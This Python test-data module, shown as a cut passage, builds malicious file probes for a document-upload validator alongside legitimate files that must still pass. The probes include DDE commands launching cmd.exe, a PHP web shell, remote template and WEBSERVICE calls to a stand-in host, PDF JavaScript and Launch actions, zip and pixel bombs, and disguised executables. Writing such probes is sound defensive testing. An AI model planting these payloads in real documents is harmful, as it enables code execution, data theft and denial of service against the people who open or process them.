"""The attack pass of security finding 6, kept as test data: every file that once got past the
evidence checks (magic bytes, member names, a ZIP directory's declared sizes), built in memory,
with the word the refusal must contain; and legitimate files of every allowed type that must
still pass. Used by test_evidence_content_probes.py."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.assessments.test_evidence_files import (
    make_docx,
    make_image,
    make_odt,
    make_package,
    make_pdf,
    make_pptx,
    make_xlsx,
)

MB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    id: str
    name: str  # the name it is uploaded under
    build: Callable[[], bytes]
    says: str = ""  # a probe: a word the refusal contains; a legitimate file: its type key


# --------------------------------------------------------------------------- OOXML builders

PKG = "http://schemas.openxmlformats.org/package/2006"
DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN_TYPES = {
    "word": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "ppt": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}
MAIN_PARTS = {"word": "word/document.xml", "ppt": "ppt/presentation.xml"}
VBA_TYPE = "application/vnd.ms-office.vbaProject"


def content_types(folder="word", overrides: dict | None = None, main_type="") -> bytes:
    parts = {f"/{MAIN_PARTS[folder]}": main_type or MAIN_TYPES[folder], **(overrides or {})}
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PKG}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/>'
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in parts.items())
        + "</Types>"
    ).encode()


def rels(*relationships: tuple[str, str, bool]) -> bytes:
    """(type, target, external); a type without "/" is one of the officeDocument types."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{kind if "/" in kind else f"{DOC}/{kind}"}" '
        f'Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if ext else ""}/>'
        for i, (kind, target, ext) in enumerate(relationships, 1)
    )
    xml = f'<?xml version="1.0"?><Relationships xmlns="{PKG}/relationships">{items}</Relationships>'
    return xml.encode()


def word_document(body: str = "<w:p><w:r><w:t>SK Tim Kerja ZI</w:t></w:r></w:p>") -> bytes:
    return (
        f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}" xmlns:r="{DOC}">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()


def docx(parts=None, document_rels=(), overrides=None, body=None, main_type="") -> bytes:
    return make_package(
        {
            "[Content_Types].xml": content_types("word", overrides, main_type),
            "_rels/.rels": rels(("officeDocument", "word/document.xml", False)),
            "word/document.xml": word_document(body) if body else word_document(),
            "word/_rels/document.xml.rels": rels(*document_rels),
            **(parts or {}),
        }
    )


def pptx(slide_links: str = "", slide_rels=(), parts=None) -> bytes:
    slide = (
        '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{DOC}">'
        f"<p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:rPr>{slide_links}</a:rPr><a:t>Paparan"
        "</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )
    return make_package(
        {
            "[Content_Types].xml": content_types("ppt"),
            "_rels/.rels": rels(("officeDocument", "ppt/presentation.xml", False)),
            "ppt/presentation.xml": b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/'
            b'presentationml/2006/main"/>',
            "ppt/_rels/presentation.xml.rels": rels(("slide", "slides/slide1.xml", False)),
            "ppt/slides/slide1.xml": slide.encode(),
            "ppt/slides/_rels/slide1.xml.rels": rels(*slide_rels),
            **(parts or {}),
        }
    )


def field(*runs: str) -> str:
    """A Word field as Word writes it: begin, the code in one or more instrText runs, end."""
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    middle = "".join(
        run if run.startswith("<") else f"<w:instrText>{run}</w:instrText>" for run in runs
    )
    return f"<w:p><w:r>{begin}</w:r><w:r>{middle}</w:r><w:r>{end}</w:r></w:p>"


def xlsx(edit: Callable | None = None, parts: dict | None = None) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["A2"] = 10, 32
    if edit:
        edit(workbook, sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    if not parts:
        return buffer.getvalue()
    with zipfile.ZipFile(buffer) as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    return make_package({**entries, **parts})


def cell(formula: str) -> Callable:
    def edit(workbook, sheet):
        sheet["B1"] = formula

    return edit


# --------------------------------------------------------------------------- ODF builders

ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.3"'
)
ODT, ODS = (
    "application/vnd.oasis.opendocument.text",
    "application/vnd.oasis.opendocument.spreadsheet",
)
ODT_BODY = "<office:text><text:p>Notulen rapat</text:p></office:text>"
ODS_BODY = (
    '<office:spreadsheet><table:table table:name="Data"><table:table-row>'
    '<table:table-cell office:value-type="float" office:value="10"/>'
    '<table:table-cell table:formula="{formula}" office:value-type="float"/>'
    "</table:table-row></table:table></office:spreadsheet>"
)


def odf(mimetype=ODT, body=ODT_BODY, parts=None, manifest=()) -> bytes:
    entries = [("/", mimetype), ("content.xml", "text/xml"), *manifest]
    manifest_xml = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        'opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        + "".join(
            f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{t}"/>'
            for p, t in entries
        )
        + "</manifest:manifest>"
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>'
        f"<office:scripts/><office:body>{body}</office:body></office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", manifest_xml)
        archive.writestr("content.xml", content)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --------------------------------------------------------------------------- raw bytes

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"VBA\0_VBA_PROJECT" * 64
SIGNATURES = {
    "zip": make_package({"payload.exe": b"MZ" + b"\0" * 64}),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 64,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\0" * 64,
    "gzip": b"\x1f\x8b\x08\x00" + b"\0" * 64,
    "exe": b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 64 + b"PE\0\0",
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
    "ole": OLE,
}
ZIP_PAYLOAD = SIGNATURES["zip"]


def raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A deflated ZIP written by hand, so that each entry's declared size is whatever the
    entry says: (name, deflated data, CRC, declared size)."""
    out, directory = bytearray(), bytearray()
    for name, data, crc, size in entries:
        encoded, offset = name.encode(), len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(data), size,
                           len(encoded), 0) + encoded + data  # fmt: skip
        directory += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc,
                                 len(data), size, len(encoded), 0, 0, 0, 0, 0, offset)  # fmt: skip
        directory += encoded
    start = len(out)
    out += directory
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                       len(directory), start, 0)  # fmt: skip
    return bytes(out)


def deflate(chunks) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"".join(compressor.compress(chunk) for chunk in chunks) + compressor.flush()


def real_entry(name: str, data: bytes) -> tuple[str, bytes, int, int]:
    return name, deflate([data]), zlib.crc32(data), len(data)


def lying_docx(member: tuple[str, bytes, int, int]) -> bytes:
    return raw_zip(
        [
            real_entry("[Content_Types].xml", content_types()),
            real_entry("word/document.xml", word_document()),
            member,
        ]
    )


def zeros_declared_as_1000_bytes() -> bytes:
    """300 MB of zeros whose directory entry says 1,000 bytes, with the CRC of those 1,000."""
    data = deflate(bytes(MB) for _ in range(300))
    return lying_docx(("word/media/filler.xml", data, zlib.crc32(bytes(1000)), 1000))


def text_declared_smaller() -> bytes:
    text = b"<w:t>isi</w:t>" * 400
    return lying_docx(("word/header1.xml", deflate([text]), zlib.crc32(text), 1000))


# --------------------------------------------------------------------------- PDF and images


def pdf(edit: Callable | None = None, **save) -> bytes:
    document = pikepdf.Pdf.new()
    document.add_blank_page(page_size=(595, 842))
    if edit:
        edit(document)
    buffer = io.BytesIO()
    document.save(buffer, **save)
    return buffer.getvalue()


def javascript() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('ZI')"))


def set_open_action(document):
    document.Root.OpenAction = javascript()


def set_names_tree_script(document):
    names = Dictionary(Names=Array([String("init"), document.make_indirect(javascript())]))
    document.Root.Names = Dictionary(JavaScript=names)


def set_page_script(document):
    document.pages[0].obj.AA = Dictionary(O=javascript())


def attach_program(document):
    document.attachments["setup.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + bytes(64))


def link_annotation(action: Dictionary) -> Callable:
    def edit(document):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=action)
        document.pages[0].obj.Annots = document.make_indirect(Array([annotation]))

    return edit


def weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    html = "<h1>Piagam Pencanangan</h1><p><a href='https://www.kemenag.go.id/'>Kemenag</a></p>"
    return HTML(string=html).write_pdf()


def image(fmt: str, mode: str = "RGB", size=(64, 48), **save) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new(mode, size, "green").save(buffer, fmt, **save)
    return buffer.getvalue()


def png_text(text: str) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", text)
    return image("PNG", pnginfo=info)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_pixel_bomb() -> bytes:
    """A 100,000 x 100,000 picture in a few hundred bytes: decoding it takes 10 GB."""
    header = struct.pack(">2I5B", 100_000, 100_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(bytes(10_000))) + png_chunk(b"IEND", b"")
    )  # fmt: skip


JPEG, PNG = (lambda: image("JPEG")), (lambda: image("PNG"))
PHP = b"<?php system($_GET['c']); ?>"
HTML_PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"
LIBRELOGO = "vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share"


# --------------------------------------------------------------------------- the probes

MACRO, OBJECT, OUTSIDE, ARCHIVE = "makro", "objek tertanam", "dari luar", "arsip atau program"
DDE, IMAGE, HIDDEN, AFTER = "dde", "bukan gambar", "tersembunyi", "data tambahan"
PDF_ACTIVE, NOT_VALID, BOMB = "javascript", "tipe berkas tidak diizinkan", "mencurigakan"
S = Sample

PROBES = [
    # ODF: StarBasic, Python scripts, event listeners, DDE
    S("odt-basic-macro-folder", "notulen.odt", lambda: odf(
        parts={"Basic/Standard/Module1.xml": b"<script:module/>", "Basic/script-lc.xml": b"<x/>"},
        manifest=[("Basic/Standard/Module1.xml", "text/xml")]), MACRO),
    S("odt-python-scripts-folder", "notulen.odt", lambda: odf(
        parts={"Scripts/python/run.py": b"import os; os.system('calc')"}), MACRO),
    S("odt-manifest-lists-a-script", "notulen.odt", lambda: odf(
        manifest=[("Dialogs/run", "application/vnd.sun.xml.ui.script")]), MACRO),
    S("odt-event-listener-calls-librelogo", "notulen.odt", lambda: odf(body=(
        '<office:text><text:p><text:a xlink:href="https://kemenag.go.id/"><office:event-listeners>'
        f'<script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" '
        f'xlink:href="{LIBRELOGO}"/></office:event-listeners>x</text:a></text:p></office:text>'
    )), MACRO),
    S("odt-ole-object", "notulen.odt", lambda: odf(parts={"Object 1": OLE}), OBJECT),
    S("odt-java-applet", "notulen.odt", lambda: odf(body=(
        '<office:text><draw:frame><draw:applet draw:code="Run.class"/></draw:frame>'
        "</office:text>")), OBJECT),
    S("odt-remote-image", "notulen.odt", lambda: odf(body=(
        '<office:text><draw:frame><draw:image xlink:href="http://198.51.100.7/pixel.png"/>'
        "</draw:frame></office:text>")), OUTSIDE),
    S("odt-empty-mimetype", "notulen.odt", lambda: make_package(
        {"mimetype": b"", "content.xml": b"<x/>"}), NOT_VALID),
    S("ods-sheet-linked-from-a-url", "data.ods", lambda: odf(ODS, (
        '<office:spreadsheet><table:table table:name="Data"><table:table-source '
        'xlink:href="http://198.51.100.7/data.ods"/></table:table></office:spreadsheet>')),
      OUTSIDE),
    S("ods-dde-formula", "data.ods", lambda: odf(ODS, ODS_BODY.format(
        formula="of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;A0&quot;)")), DDE),
    # DOCX: VBA by content type, by relationship, by OLE bytes, macro-enabled main part
    S("docx-vba-renamed-code-bin-content-type", "sk.docx", lambda: docx(
        parts={"word/code.bin": b"\0" * 512}, overrides={"/word/code.bin": VBA_TYPE}), MACRO),
    S("docx-vba-renamed-code-bin-ole-bytes", "sk.docx", lambda: docx(
        parts={"word/code.bin": OLE}), OBJECT),
    S("docx-vba-relationship", "sk.docx", lambda: docx(
        document_rels=[(f"{DOC.replace('officeDocument/2006', 'office/2006')}/vbaProject",
                        "code.dat", False)]), MACRO),
    S("docm-main-part-renamed-docx", "sk.docx", lambda: docx(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), MACRO),
    # embedded OLE objects and ActiveX
    S("docx-ole-object-embedding", "sk.docx", lambda: docx(
        parts={"word/embeddings/oleObject1.bin": OLE},
        document_rels=[("oleObject", "embeddings/oleObject1.bin", False)]), OBJECT),
    S("docx-ole-object-named-as-emf", "sk.docx", lambda: docx(
        parts={"word/media/image2.emf": OLE}), OBJECT),
    S("docx-activex-part", "sk.docx", lambda: docx(parts={
        "word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='urn:x'/>",
        "word/activeX/activeX1.bin": OLE,
    }), OBJECT),
    S("docx-activex-by-content-type", "sk.docx", lambda: docx(
        parts={"word/ctl1.xml": b"<ocx/>"},
        overrides={"/word/ctl1.xml": "application/vnd.ms-office.activeX+xml"}), OBJECT),
    S("pptx-activex-control-relationship", "paparan.pptx", lambda: pptx(
        slide_rels=[("control", "../ctl/ctl1.xml", False)]), OBJECT),
    # external relationships, fetched when the file is opened
    S("docx-remote-attached-template", "sk.docx", lambda: docx(parts={
        "word/settings.xml": b"<w:settings xmlns:w='" + W_NS.encode() + b"'/>",
        "word/_rels/settings.xml.rels": rels(
            ("attachedTemplate", "http://198.51.100.7/template.dotm", True)),
    }), OUTSIDE),
    S("docx-remote-ole-object-mhtml", "sk.docx", lambda: docx(document_rels=[
        ("oleObject", "mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html", True),
    ]), OUTSIDE),
    S("docx-remote-frame", "sk.docx", lambda: docx(
        document_rels=[("frame", "http://198.51.100.7/frame.html", True)]), OUTSIDE),
    S("docx-remote-subdocument", "sk.docx", lambda: docx(
        document_rels=[("subDocument", "\\\\198.51.100.7\\share\\sub.docx", True)]), OUTSIDE),
    S("docx-office-web-add-in", "sk.docx", lambda: docx(
        parts={"word/webextensions/webextension1.xml": b"<we:webextension xmlns:we='urn:x'/>"},
        overrides={"/word/webextensions/webextension1.xml":
                   "application/vnd.ms-office.webextension+xml"}), OUTSIDE),
    S("docx-remote-image", "sk.docx", lambda: docx(
        document_rels=[("image", "http://198.51.100.7/pixel.png", True)]), OUTSIDE),
    S("docx-hyperlink-to-a-program", "sk.docx", lambda: docx(
        document_rels=[("hyperlink", "file:///C:/Windows/System32/calc.exe", True)]), OUTSIDE),
    S("pptx-ppaction-program", "paparan.pptx", lambda: pptx(
        slide_links='<a:hlinkClick r:id="rId1" action="ppaction://program"/>',
        slide_rels=[("hyperlink", "calc.exe", True)]), ARCHIVE),
    # DDE fields in Word
    S("docx-ddeauto-simple-field", "sk.docx", lambda: docx(body=(
        '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '&quot;/k calc&quot;"/></w:p>')), DDE),
    S("docx-dde-field-split-over-runs", "sk.docx", lambda: docx(
        body=field("DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")), DDE),
    S("docx-dde-spelled-by-nested-quote-field", "sk.docx", lambda: docx(body=field(
        '<w:fldChar w:fldCharType="begin"/>', "QUOTE 68 68 69 65 85 84 79",
        '<w:fldChar w:fldCharType="end"/>', " c:\\\\windows\\\\system32\\\\cmd.exe")), DDE),
    # media that is not the image it claims to be
    *[
        S(f"docx-media-png-is-{kind}", "sk.docx", lambda data=data: docx(
            parts={"word/media/image1.png": data}), OBJECT if kind == "ole" else ARCHIVE)
        for kind, data in SIGNATURES.items()
    ],
    S("docx-media-png-is-html", "sk.docx", lambda: docx(
        parts={"word/media/image1.png": HTML_PAGE}), HIDDEN),
    S("docx-media-png-is-text", "sk.docx", lambda: docx(
        parts={"word/media/image1.png": b"not a picture at all"}), IMAGE),
    S("docx-media-png-with-zip-appended", "sk.docx", lambda: docx(
        parts={"word/media/image1.png": PNG() + ZIP_PAYLOAD}), ARCHIVE),
    S("docx-media-jpeg-with-php-appended", "sk.docx", lambda: docx(
        parts={"word/media/image1.jpeg": JPEG() + PHP}), HIDDEN),
    S("docx-media-jpeg-is-a-png", "sk.docx", lambda: docx(
        parts={"word/media/image1.jpeg": PNG()}), IMAGE),
    S("docx-media-svg-with-script", "sk.docx", lambda: docx(parts={
        "word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'
    }), HIDDEN),
    # member names
    S("docx-member-exe-trailing-space", "sk.docx", lambda: docx(
        parts={"word/run.exe ": b"MZ" + bytes(64)}), ARCHIVE),
    S("docx-member-exe-trailing-dots", "sk.docx", lambda: docx(
        parts={"word/run.exe..": b"text"}), ARCHIVE),
    S("docx-member-exe-upper-case", "sk.docx", lambda: docx(
        parts={"word/media/RUN.EXE": b"text"}), ARCHIVE),
    S("docx-member-climbs-out", "sk.docx", lambda: docx(
        parts={"../../startup/run.txt": b"text"}), "tidak wajar"),
    S("docx-member-bidi-override", "sk.docx", lambda: docx(
        parts={"word/media/image\u202egnp.exe": b"text"}), "tidak wajar"),
    # XLSX: DDE formulas, external links, Excel 4.0 macros, data connections
    S("xlsx-dde-formula", "data.xlsx", lambda: xlsx(cell("=cmd|' /C calc'!A0")), DDE),
    S("xlsx-dde-formula-spelled-differently", "data.xlsx", lambda: xlsx(
        cell("=  msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''")), DDE),
    S("xlsx-dde-function", "data.xlsx", lambda: xlsx(cell('=DDE("cmd","/C calc","A0")')), DDE),
    S("xlsx-webservice-formula", "data.xlsx", lambda: xlsx(
        cell('=WEBSERVICE("http://198.51.100.7/?"&A1)')), DDE),
    S("xlsx-external-link-part", "data.xlsx", lambda: xlsx(parts={
        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        b'ddeTopic="/c calc"/></externalLink>'}), OUTSIDE),
    S("xlsx-dde-link-under-another-name", "data.xlsx", lambda: xlsx(parts={
        "xl/links/link1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    }), DDE),
    S("xlsx-excel4-macro-sheet", "data.xlsx", lambda: xlsx(
        parts={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='urn:x'/>"}), MACRO),
    S("xlsx-auto-open-name", "data.xlsx", lambda: xlsx(_auto_open), MACRO),
    S("xlsx-data-connection", "data.xlsx", lambda: xlsx(
        parts={"xl/connections.xml": b"<connections xmlns='urn:x'/>"}), OUTSIDE),
    # ZIP directory that lies about sizes
    S("docx-declares-1000-bytes-for-300-mb-of-zeros", "sk.docx", zeros_declared_as_1000_bytes,
      BOMB),
    S("docx-declares-less-than-it-holds", "sk.docx", text_declared_smaller, "tidak sesuai"),
    # PDF
    S("pdf-zip-appended-after-eof", "piagam.pdf", lambda: make_pdf() + ZIP_PAYLOAD, ARCHIVE),
    S("pdf-zip-appended-then-eof-again", "piagam.pdf", lambda: (
        make_pdf() + ZIP_PAYLOAD + b"\n%%EOF\n"), ARCHIVE),
    S("pdf-text-appended-after-eof", "piagam.pdf", lambda: make_pdf() + b"extra data", AFTER),
    S("pdf-header-then-html", "piagam.pdf", lambda: b"%PDF-1.4\n" + HTML_PAGE, HIDDEN),
    S("pdf-header-then-garbage", "piagam.pdf", lambda: b"%PDF-1.7\n" + bytes(200) + b"%%EOF",
      NOT_VALID),
    S("pdf-open-action-javascript", "piagam.pdf", lambda: pdf(set_open_action), PDF_ACTIVE),
    S("pdf-names-tree-javascript", "piagam.pdf", lambda: pdf(set_names_tree_script), PDF_ACTIVE),
    S("pdf-page-open-javascript", "piagam.pdf", lambda: pdf(set_page_script), PDF_ACTIVE),
    S("pdf-embedded-program", "piagam.pdf", lambda: pdf(attach_program), PDF_ACTIVE),
    S("pdf-launch-action", "piagam.pdf", lambda: pdf(link_annotation(
        Dictionary(S=Name.Launch, F=String("calc.exe")))), PDF_ACTIVE),
    S("pdf-remote-goto-unc", "piagam.pdf", lambda: pdf(link_annotation(
        Dictionary(S=Name.GoToR, F=String("\\\\198.51.100.7\\share\\a.pdf"), D=Array([0])))),
      PDF_ACTIVE),
    S("pdf-needs-a-password", "piagam.pdf", lambda: pdf(
        encryption=pikepdf.Encryption(user="rahasia", owner="pemilik")), "terenkripsi"),
    # images that are also something else
    S("jpeg-with-php-appended", "foto.jpg", lambda: JPEG() + PHP, HIDDEN),
    S("jpeg-with-zip-appended", "foto.jpg", lambda: JPEG() + ZIP_PAYLOAD, ARCHIVE),
    S("jpeg-with-bytes-after-the-image", "foto.jpg", lambda: JPEG() + b"not an image", AFTER),
    S("jpeg-php-in-a-comment", "foto.jpg", lambda: image("JPEG", comment=PHP), HIDDEN),
    S("jpeg-multi-picture-with-bytes-after", "foto.jpg", lambda: _multi_picture() + b"x" * 9,
      AFTER),
    S("jpeg-magic-then-html", "foto.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML_PAGE, HIDDEN),
    S("jpeg-magic-then-junk", "foto.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(300), NOT_VALID),
    S("jpeg-truncated", "foto.jpg", lambda: image("JPEG", size=(256, 256))[:400], NOT_VALID),
    S("png-with-html-appended", "bagan.png", lambda: PNG() + HTML_PAGE, HIDDEN),
    S("png-magic-then-php", "bagan.png", lambda: b"\x89PNG\r\n\x1a\n" + PHP, HIDDEN),
    S("png-script-in-a-text-chunk", "bagan.png", lambda: png_text("<script>x()</script>"), HIDDEN),
    S("png-with-bytes-after-iend", "bagan.png", lambda: PNG() + b"junk", AFTER),
    S("png-pixel-bomb", "bagan.png", png_pixel_bomb, "megapiksel"),
]  # fmt: skip


def _auto_open(workbook, sheet):
    from openpyxl.workbook.defined_name import DefinedName

    workbook.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="Sheet!$A$1")


# --------------------------------------------------------------------------- legitimate files


def _docx_like_word() -> bytes:
    """What Word writes for an SK with a web link, a picture, page-number and TOC fields and a
    chart (whose data is a workbook inside the document)."""
    body = (
        '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>kemenag.go.id</w:t></w:r></w:hyperlink></w:p>'
        + field(" TOC \\o &quot;1-3&quot; \\h ") + field(" PAGE ")
        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> = 1 "a" "b"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )  # fmt: skip
    return docx(
        body=body,
        document_rels=[("hyperlink", "https://www.kemenag.go.id/", True),
                       ("image", "media/image1.png", False), ("chart", "charts/chart1.xml", False)],
        parts={
            "word/media/image1.png": PNG(), "word/media/image2.jpeg": JPEG(),
            "word/charts/chart1.xml": b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/'
            b'drawingml/2006/chart"><c:f>Sheet1!$A$1:$A$2</c:f></c:chartSpace>',
            "word/charts/_rels/chart1.xml.rels": rels(
                ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", False)),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx(),
            "docProps/thumbnail.emf": b"\x01\x00\x00\x00" + bytes(36) + b" EMF" + bytes(64),
        },
    )  # fmt: skip


def _xlsx_with_formulas_and_picture() -> bytes:
    def edit(workbook, sheet):
        from openpyxl.drawing.image import Image as SheetImage

        sheet["B1"], sheet["B2"] = "=SUM(A1:A2)", '=A1&"|"&A2'
        sheet["B3"] = '=HYPERLINK("https://www.kemenag.go.id/","Kemenag")'
        sheet.add_image(SheetImage(io.BytesIO(PNG())), "D2")
        sheet.print_area = "A1:B3"

    return xlsx(edit)


def _noisy_jpeg() -> bytes:
    """Detail-rich pixels put 0xFF bytes (stuffed as FF 00) and restart markers in the
    compressed data, which the end-of-image walk must step over."""
    from PIL import Image

    buffer = io.BytesIO()
    noise = Image.effect_noise((320, 240), 80).convert("RGB")
    noise.save(buffer, "JPEG", quality=95, restart_marker_rows=2)
    return buffer.getvalue()


def _multi_picture() -> bytes:
    """A JPEG carrying a second picture after its end, as phones store an HDR gain map."""
    from PIL import Image

    buffer = io.BytesIO()
    main, gain_map = Image.new("RGB", (64, 48), "green"), Image.new("L", (32, 24), 128)
    main.save(buffer, "MPO", save_all=True, append_images=[gain_map.convert("RGB")])
    return buffer.getvalue()


def _exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Kamera", "Ponsel"  # Make, Model
    return exif.tobytes()


def _pdf_with_web_link() -> bytes:
    link = Dictionary(S=Name.URI, URI=String("https://www.kemenag.go.id/"))

    def edit(document):
        link_annotation(link)(document)
        document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])

    return pdf(edit)


def _odt_like_libreoffice() -> bytes:
    body = (
        '<office:text><text:p>Notulen <text:a xlink:type="simple" xlink:href="https://www.'
        'kemenag.go.id/">Kemenag</text:a><text:a xlink:href="#Lampiran">lampiran</text:a></text:p>'
        '<draw:frame><draw:image xlink:href="Pictures/logo.png" xlink:type="simple"/></draw:frame>'
        "</office:text>"
    )
    return odf(
        body=body,
        parts={"Pictures/logo.png": PNG(), "Thumbnails/thumbnail.png": PNG(),
               "styles.xml": f"<office:document-styles {ODF_NS}/>"},
        manifest=[("Pictures/logo.png", "image/png"), ("styles.xml", "text/xml")],
    )  # fmt: skip


LEGITIMATE = [
    S("pdf-minimal-hand-written", "piagam.pdf", make_pdf, "pdf"),
    S("pdf-pikepdf-new-page", "piagam.pdf", pdf, "pdf"),
    S("pdf-weasyprint", "piagam.pdf", weasyprint_pdf, "pdf"),
    S("pdf-web-link-and-open-on-page", "piagam.pdf", _pdf_with_web_link, "pdf"),
    S("pdf-owner-password-only", "piagam.pdf", lambda: pdf(
        encryption=pikepdf.Encryption(user="", owner="pemilik")), "pdf"),
    S("jpeg-pillow", "foto.jpg", lambda: make_image("JPEG"), "jpeg"),
    S("jpeg-progressive-with-exif", "foto.JPEG", lambda: image(
        "JPEG", size=(640, 480), progressive=True, exif=_exif()), "jpeg"),
    S("jpeg-cmyk", "foto.jpg", lambda: image("JPEG", "CMYK"), "jpeg"),
    S("jpeg-photo-like-noise-with-restart-markers", "foto.jpg", _noisy_jpeg, "jpeg"),
    S("jpeg-multi-picture-like-a-phone", "foto.jpg", _multi_picture, "jpeg"),
    S("png-pillow", "bagan.png", lambda: make_image("PNG"), "png"),
    S("png-rgba-with-text", "bagan.png", lambda: png_text("Bagan organisasi ZI"), "png"),
    S("png-palette", "bagan.png", lambda: image("PNG", "P"), "png"),
    S("docx-minimal", "sk.docx", make_docx, "docx"),
    S("docx-like-word", "sk.docx", _docx_like_word, "docx"),
    S("xlsx-openpyxl", "data.xlsx", make_xlsx, "xlsx"),
    S("xlsx-formulas-and-picture", "data.xlsx", _xlsx_with_formulas_and_picture, "xlsx"),
    S("pptx-minimal", "paparan.pptx", make_pptx, "pptx"),
    S("pptx-slide-with-web-link-and-picture", "paparan.pptx", lambda: pptx(
